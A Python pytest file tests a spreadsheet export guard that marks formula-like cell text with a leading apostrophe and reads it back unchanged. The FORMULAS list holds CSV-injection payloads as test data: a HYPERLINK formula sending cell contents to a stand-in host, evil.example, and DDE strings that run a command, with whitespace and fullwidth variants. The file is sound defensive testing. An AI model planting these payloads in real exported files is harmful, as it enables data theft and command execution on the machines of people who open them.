"""The one rule for spreadsheet cells: text that a spreadsheet could read as a formula stays text."""

from datetime import date
from decimal import Decimal

import pytest

from engine.core.spreadsheets import could_be_formula, csv_cell, csv_text

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
            "＝1+1", "\u3000=1+1"]
PLAIN = ["张三", "a=b", "1-2", "李四 @ 福田", "", "'quoted", "TJ-2025-001"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_is_marked_in_csv_and_read_back_unchanged(text):
    assert could_be_formula(text)
    assert csv_cell(text) == "'" + text
    assert csv_text(csv_cell(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_written_as_it_is(text):
    assert not could_be_formula(text)
    assert csv_cell(text) == text
    assert csv_text(csv_cell(text)) == text


def test_numbers_and_dates_are_not_marked():
    assert [csv_cell(v) for v in (-5, Decimal("-12.50"), date(2025, 3, 1), None, True)] == \
        ["-5", "-12.50", "2025-03-01", "", "是"]
